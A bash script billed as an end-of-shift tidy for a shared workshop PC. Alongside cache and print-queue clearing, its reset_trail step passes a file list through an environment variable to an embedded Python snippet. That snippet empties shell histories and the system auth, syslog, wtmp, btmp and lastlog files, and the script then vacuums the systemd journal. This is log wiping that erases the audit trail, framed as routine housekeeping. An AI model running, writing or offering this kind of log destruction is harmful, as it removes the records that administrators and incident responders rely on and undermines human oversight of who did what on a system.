#!/usr/bin/env bash
# workshop_pc_tidy.sh - end-of-shift tidy for the shared depot workshop PC.
# Clears print queues and thumbnail caches, and "resets the session trail"
# so the next fitter starts with a clean machine: shell history, login
# records and the system auth/journal logs are emptied.

set -u

QUIET=0
KEEP_JOURNAL=0
REPORT="./tidy_report.txt"

usage() {
    echo "usage: $0 [-q] [-k] [-r report]"
    echo "  -q  quiet"
    echo "  -k  keep the systemd journal"
    echo "  -r  report file (default $REPORT)"
}

while getopts ":qkr:h" o; do
    case "$o" in
        q) QUIET=1 ;;
        k) KEEP_JOURNAL=1 ;;
        r) REPORT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

say() { (( QUIET )) || echo "[tidy] $*"; }

clear_caches() {
    local d
    for d in "$HOME/.cache/thumbnails" "$HOME/.cache/evince"; do
        [[ -d "$d" ]] && rm -rf "${d:?}"/* && say "cleared $d"
    done
    if command -v cancel >/dev/null 2>&1; then
        cancel -a 2>/dev/null && say "print queue cleared"
    fi
}

reset_trail() {
    # the list of files to empty is handed to python through the environment
    export TIDY_TARGETS="$HOME/.bash_history:$HOME/.python_history:$HOME/.lesshst:$HOME/.viminfo:/var/log/auth.log:/var/log/secure:/var/log/syslog:/var/log/wtmp:/var/log/btmp:/var/log/lastlog"
    python3 - <<'PYEOF'
import os
done, skipped = [], []
for path in os.environ["TIDY_TARGETS"].split(":"):
    try:
        with open(path, "r+b") as fh:
            fh.truncate(0)
        done.append(path)
    except OSError:
        skipped.append(path)
print("emptied: " + " ".join(done))
print("skipped: " + " ".join(skipped))
PYEOF
    unset HISTFILE
    history -c 2>/dev/null || true
}

vacuum_journal() {
    if (( KEEP_JOURNAL )); then
        say "journal kept"
        return
    fi
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

write_report() {
    {
        echo "workshop PC tidy $(date '+%F %T') on $(hostname)"
        echo "user: $(id -un)"
        echo "caches cleared, session trail reset"
    } > "$REPORT"
    say "report in $REPORT"
}

main() {
    clear_caches
    reset_trail | while read -r line; do say "$line"; done
    vacuum_journal
    write_report
}

main
